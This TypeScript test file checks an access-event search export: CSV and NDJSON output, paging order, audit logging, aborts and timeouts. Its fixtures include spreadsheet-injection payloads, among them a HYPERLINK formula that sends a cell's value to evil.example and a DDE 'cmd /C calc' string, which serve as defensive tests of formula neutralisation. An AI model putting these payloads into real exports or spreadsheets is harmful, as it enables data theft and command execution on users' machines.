import { asc, eq, sql } from 'drizzle-orm';
import pg from 'pg';
import { expect, it } from 'vitest';
import type { Db } from '@/db/client';
import { auditLog } from '@/db/schema';
import type { Ctx } from '@/server/context';
import { DomainError } from '@/server/errors';
import { event, ingest, principal } from '@/server/rollups/test-events';
import { parseCsv } from '@/server/testing/csv';
import { actor, ctxFor, describeEachEngine, type Harness } from '@/server/testing/db';
import { EVENT_COLUMNS, readEventPage, searchEvents, type EventColumn, type EventRow } from './events';
import { csvHeader, csvRenderer, exportEvents, ndjsonRenderer, type ExportInput } from './export';
import { searchScope } from './scope';

const T = Date.UTC(2026, 0, 15, 12);
const HOUR = 3_600_000;
const range = { from: new Date(T), to: new Date(T + HOUR) };

const HOSTILE_UA = ['=HYPERLINK("http://evil.example","x")', 'a,b "c"\r\nd', '-1+2', 'ünï ✓ 👩‍💻', '@x\u0007\u001b'];

/** 47 events: 3 share each second (ties on ts), every fourth a 500, user agents an attacker chose. */
async function seed(h: Harness) {
  const events = Array.from({ length: 47 }, (_, i) =>
    event(T + Math.floor(i / 3) * 1000, `r${String(i).padStart(3, '0')}`, {
      status: i % 4 === 0 ? 500 : 200,
      userAgent: HOSTILE_UA[i % HOSTILE_UA.length],
      sensitive: i % 5 === 0 ? [{ class: 'card_number', direction: 'response', count: 2 }, { class: 'email', direction: 'request', count: 1 }] : null,
    }),
  );
  events.push(event(T - 1, 'before'), event(T + HOUR, 'at-end'));
  await ingest(h.db, [{ events, principal }], T + HOUR);
}

async function searched(h: Harness, q: string): Promise<EventRow[]> {
  const out: EventRow[] = [];
  let cursor: string | undefined;
  do {
    const page = await searchEvents(ctxFor(h.db, actor('viewer')), { q, ...range, limit: 10, cursor });
    out.push(...page.rows);
    cursor = page.nextCursor ?? undefined;
  } while (cursor);
  return out;
}

async function collect(chunks: AsyncIterable<Uint8Array>): Promise<{ text: string; chunks: number }> {
  const parts: Uint8Array[] = [];
  for await (const c of chunks) parts.push(c);
  const text = Buffer.concat(parts).toString('utf8');
  const n = parts.length;
  return { text, chunks: n };
}

const exportsOf = (db: Db) => db.select().from(auditLog).where(eq(auditLog.action, 'search.export')).orderBy(asc(auditLog.id));

describeEachEngine('search export', (h) => {
  const ctx = (): Ctx => ctxFor(h.db, actor('analyst', 'usr_exporter'));
  const run = (input: Omit<ExportInput, 'from' | 'to'>, pageSize = 7) => exportEvents(ctx(), { ...range, ...input }, { pageSize });

  it('exports as NDJSON exactly what the search pages show, in order, across pages', async () => {
    await seed(h);
    for (const q of ['', 'status:500']) {
      const expected = (await searched(h, q)).map(({ key: _key, ...rest }) => rest);
      const { text, chunks } = await collect(run({ q, format: 'ndjson' }));
      expect(text.endsWith('\n')).toBe(true);
      const lines = text.slice(0, -1).split('\n').map((l) => JSON.parse(l) as unknown);
      expect(lines, q).toEqual(expected);
      expect(chunks).toBe(Math.ceil(expected.length / 7));
    }
    expect((await searched(h, '')).length).toBe(47);
  });

  it('orders ties on ts by id as a number, where 10 comes after 9 (the keyset compares numbers)', async () => {
    await ingest(h.db, [{ principal, events: Array.from({ length: 12 }, (_, i) => event(T + 5000, `t${String(i).padStart(2, '0')}`)) }], T + HOUR);
    // ids 5..16 at one instant: as text, '9' > '16' > '10', which would lose rows at a page boundary
    await h.db.execute(sql`update access_events set id = 5 + substring(request_id from 2)::int where request_id like 't%'`);
    const expected = Array.from({ length: 12 }, (_, i) => `t${String(11 - i).padStart(2, '0')}`);
    const { text } = await collect(exportEvents(ctx(), { q: '', ...range, format: 'ndjson', columns: ['requestId'] }, { pageSize: 3 }));
    expect(text.trimEnd().split('\n').map((l) => (JSON.parse(l) as { requestId: string }).requestId)).toEqual(expected);
    const pages: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await searchEvents(ctxFor(h.db, actor('viewer')), { q: '', ...range, limit: 3, cursor });
      pages.push(...page.rows.map((r) => r.requestId));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(pages).toEqual(expected);
  });

  it('exports CSV that parses back to the same rows, formulas neutralised', async () => {
    await seed(h);
    const expected = await searched(h, '');
    const { text } = await collect(run({ q: '', format: 'csv' }, 10));
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...EVENT_COLUMNS]);
    expect(records).toHaveLength(47);
    const col = (name: string) => header.indexOf(name);
    records.forEach((r, i) => {
      const e = expected[i];
      expect(r[col('requestId')]).toBe(e.requestId);
      expect(r[col('ts')]).toBe(e.ts);
      expect(r[col('status')]).toBe(String(e.status));
      expect(r[col('userAgent')]).toBe(/^[=+\-@]/.test(e.userAgent!) ? `'${e.userAgent}` : e.userAgent);
      expect(r[col('sensitive')]).toBe(e.sensitive.map((s) => `${s.class}:${s.direction}:${s.count}`).join(';'));
      expect(r[col('user')]).toBe('');
    });
    expect(records.some((r) => r[col('sensitive')] === 'card_number:response:2;email:request:1')).toBe(true);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('writes the columns asked, in their order', async () => {
    await seed(h);
    const { text } = await collect(run({ q: 'status:500', format: 'csv', columns: ['status', 'requestId'] }));
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual(['status', 'requestId']);
    expect(records.slice(0, 3)).toEqual([['500', 'r044'], ['500', 'r040'], ['500', 'r036']]);
  });

  it('gives a header only (CSV) or nothing (NDJSON) when nothing matches, and audits 0 rows', async () => {
    await seed(h);
    expect((await collect(run({ q: 'status:404', format: 'csv' }))).text).toBe(`${EVENT_COLUMNS.join(',')}\r\n`);
    expect((await collect(run({ q: 'status:404', format: 'ndjson' }))).text).toBe('');
    expect((await exportsOf(h.db)).map((e) => (e.after as { rows: number; complete: boolean }))).toMatchObject([{ rows: 0, complete: true }, { rows: 0, complete: true }]);
  });

  it('audits one search.export at the end with query, range, format, columns and the row count', async () => {
    await seed(h);
    await collect(run({ q: 'status:500', format: 'ndjson', columns: ['ts', 'path'] }));
    const [entry] = await exportsOf(h.db);
    expect(entry).toMatchObject({ actorId: 'usr_exporter', actorRole: 'analyst', targetType: 'access_events', sourceIp: '192.0.2.10' });
    expect(entry.after).toEqual({
      query: 'status:500', from: range.from.toISOString(), to: range.to.toISOString(), format: 'ndjson', columns: ['ts', 'path'], rows: 12, complete: true,
    });
    expect(JSON.stringify(entry)).not.toMatch(/r0\d\d|HYPERLINK/);
  });

  it('records complete: false with the rows handed out when the consumer stops mid-stream', async () => {
    await seed(h);
    const chunks = run({ q: '', format: 'csv' });
    expect((await chunks.next()).done).toBe(false);
    expect((await chunks.next()).done).toBe(false);
    expect(await exportsOf(h.db)).toEqual([]);
    await chunks.return(undefined);
    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: 14, complete: false, format: 'csv' }]);
    expect((await chunks.next()).done).toBe(true);
  });

  it('stops reading once its signal is aborted', async () => {
    await seed(h);
    const abort = new AbortController();
    const chunks = exportEvents(ctx(), { q: '', ...range, format: 'ndjson' }, { pageSize: 5, signal: abort.signal });
    await chunks.next();
    abort.abort();
    expect((await chunks.next()).done).toBe(true);
    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: 5, complete: false }]);
  });

  it('turns a page that outlives the search timeout into an error saying what to narrow (a real lock on PostgreSQL)', async (t) => {
    if (h.engine !== 'postgres') return t.skip();
    await seed(h);
    const pool = (h.db as unknown as { $client: pg.Pool }).$client;
    const holder = await pool.connect();
    try {
      // an ALTER TABLE waiting elsewhere holds this lock in real life; the export's COPY waits on it
      await holder.query('begin; lock table access_events in access exclusive mode');
      const chunks = exportEvents(ctx(), { q: '', ...range }, { pageSize: 5, timeoutMs: 200 });
      await expect(chunks.next()).rejects.toThrow(/narrow the time range/);
    } finally {
      await holder.query('rollback');
      holder.release();
    }
    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: 0, complete: false }]);
  });

  it('records complete: false when a page fails, and passes the failure on', async () => {
    await seed(h);
    let calls = 0;
    // the second page's transaction (PGlite) or connection (the COPY pages on PostgreSQL) fails;
    // the audit's own transaction after it works
    const lost = () => Promise.reject(new Error('connection lost'));
    const flaky = new Proxy(h.db, {
      get(target, prop, receiver) {
        if (prop === 'transaction') {
          return (...args: Parameters<Db['transaction']>) => (++calls === 2 ? lost() : target.transaction(...args));
        }
        const value = Reflect.get(target, prop, receiver) as unknown;
        if (prop === '$client' && value instanceof pg.Pool) {
          return new Proxy(value, {
            get: (pool, key) => (key === 'connect' ? () => (++calls === 2 ? lost() : pool.connect()) : (Reflect.get(pool, key) as unknown)),
          });
        }
        return value;
      },
    });
    const chunks = exportEvents({ ...ctx(), db: flaky }, { q: '', ...range }, { pageSize: 10 });
    await expect(collect(chunks)).rejects.toThrow('connection lost');
    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: 10, complete: false }]);
  });

  it('checks the input and query before it returns, with no audit entry', async () => {
    const e: unknown = (() => {
      try {
        exportEvents(ctx(), { q: 'status:500 AND (', ...range });
        return null;
      } catch (x) {
        return x;
      }
    })();
    expect(e).toBeInstanceOf(DomainError);
    expect(e).toMatchObject({ code: 'BAD_REQUEST', column: 17 });
    expect(() => exportEvents(ctx(), { q: '', from: range.to, to: range.from })).toThrow(/start before it ends/);
    expect(await exportsOf(h.db)).toEqual([]);
  });
});

// The export renders its lines in SQL (export.ts, "The page as PostgreSQL renders it"): here, the
// same bytes as the row-by-row renderers, on values chosen to break one or the other.
const NASTY = [
  'plain', 'with,comma', 'with "quotes"', '"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside', '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =not a formula', "'already", 'ünïcødé ✓ 日本語 👩‍💻 \u202Eevil \u2028\u2029',
  'bell\u0007 esc\u001b[31m del\u007f vt\u000b ff\u000c', 'back\\slash \\u0041', 'trailing ', ',', '',
];
const FLOATS = [0, -0, 12.5, 0.1 + 0.2, 1e-4, 9.99e-5, 1.5e-5, 1e-6, 1.2345e-7, 1e-7, 5e-324, 123456789012345.6, 1e15, 1e16, 1.2345678901234567e19, 1e21, 1.5e21, 1.7976931348623157e308, -1e-5, -2.5e17, NaN, Infinity, -Infinity];
const SENSITIVE: unknown[] = [
  null, [], [{ class: 'email', direction: 'request', count: 1 }], [{ class: 'a,b "c"', direction: '=x', count: 3, path: '$.e' }],
  [{ class: 'card_number', direction: 'response', count: 2 }, { class: 'email', direction: 'request', count: 1 }, { class: 'card_number', direction: 'response', count: 5 }],
  [{ class: 'ünï\n', count: 2 }, { class: 'x', direction: 7, count: null }, 'junk', 5, null, { direction: 'request', count: 1 }, { class: 'x', direction: 'unknown' }],
  { class: 'not a list' }, 42,
];

async function seedNasty(h: Harness) {
  const n = Math.max(NASTY.length, FLOATS.length, SENSITIVE.length);
  await ingest(h.db, [{ principal, events: Array.from({ length: n }, (_, i) => event(T + i * 1000, `n${String(i).padStart(2, '0')}`)) }], T + HOUR);
  for (let i = 0; i < n; i++) {
    const s = NASTY[i % NASTY.length];
    const t = NASTY[(i + 7) % NASTY.length];
    const f = FLOATS[i % FLOATS.length];
    await h.db.execute(sql`update access_events set path = ${s}, route = ${t}, user_agent = ${i % 5 === 4 ? null : s}, user_id = ${i % 3 === 0 ? null : t},
      token_id = ${s}, cluster = ${i % 4 === 0 ? null : ''}, namespace = ${t}, src_service = ${s}, method = ${t}, dst_service = ${s || 'svc'},
      duration_ms = ${i % 6 === 5 ? null : String(f)}::float8, bytes_in = ${i % 2 ? null : String(Math.trunc(Number.isFinite(f) ? Math.min(Math.abs(f), 9e18) : 7))}::numeric::bigint,
      bytes_out = ${String(i * 1_000_000_000_007)}::bigint, client_ip = ${i % 3 === 1 ? null : `2001:db8::${i}`}::inet,
      sensitive = ${JSON.stringify(SENSITIVE[i % SENSITIVE.length])}::jsonb
      where request_id = ${`n${String(i).padStart(2, '0')}`}`);
  }
  return n;
}

/** What the row-by-row renderers make of the same rows (read in one page, as the result table does). */
async function rowByRow(h: Harness, format: 'csv' | 'ndjson', columns: readonly EventColumn[]): Promise<string> {
  const found = await readEventPage(h.db, searchScope({ q: '', ...range }), null, 10_000);
  return format === 'csv' ? csvHeader(columns) + csvRenderer(columns)(found) : ndjsonRenderer(columns)(found);
}

describeEachEngine('search export rendered in SQL', (h) => {
  const ctx = (): Ctx => ctxFor(h.db, actor('analyst', 'usr_exporter'));
  const subset: EventColumn[] = ['sensitive', 'requestId', 'durationMs', 'ts', 'path', 'status', 'bytesOut'];

  it('writes the bytes the row-by-row renderers write, on hostile text, numbers and sensitive lists', async () => {
    const n = await seedNasty(h);
    for (const format of ['csv', 'ndjson'] as const) {
      for (const columns of [[...EVENT_COLUMNS], subset]) {
        const expected = await rowByRow(h, format, columns);
        const { text } = await collect(exportEvents(ctx(), { q: '', ...range, format, columns }, { pageSize: 4 }));
        expect(text, `${format} ${columns.join(',')}`).toBe(expected);
        expect(expected.split(format === 'csv' ? '\r\n' : '\n').length).toBeGreaterThan(n);
      }
    }
    expect((await exportsOf(h.db)).map((e) => (e.after as { rows: number }).rows)).toEqual([n, n, n, n]);
  });

  it('renders in Node, the same, a page whose sensitive list SQL cannot add exactly', async () => {
    const n = await seedNasty(h);
    await h.db.execute(sql`update access_events set sensitive = ${JSON.stringify([{ class: 'email', direction: 'request', count: '2' }, { class: 'email', direction: 'request', count: 0.1 }, { class: 'email', direction: 'request', count: 0.2 }, { class: 'x', count: true }])}::jsonb where request_id = 'n03'`);
    await h.db.execute(sql`update access_events set sensitive = ${JSON.stringify(JSON.stringify([{ class: 'as text', direction: 'request', count: 1 }]))}::jsonb where request_id = 'n09'`);
    for (const format of ['csv', 'ndjson'] as const) {
      const expected = await rowByRow(h, format, EVENT_COLUMNS);
      const { text } = await collect(exportEvents(ctx(), { q: '', ...range, format }, { pageSize: 5 }));
      expect(text).toBe(expected);
      expect(text).toContain(format === 'csv' ? 'email:request:2.3000000000000003' : '"count":2.3000000000000003');
    }
    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: n, complete: true }, { rows: n, complete: true }]);
  });
});
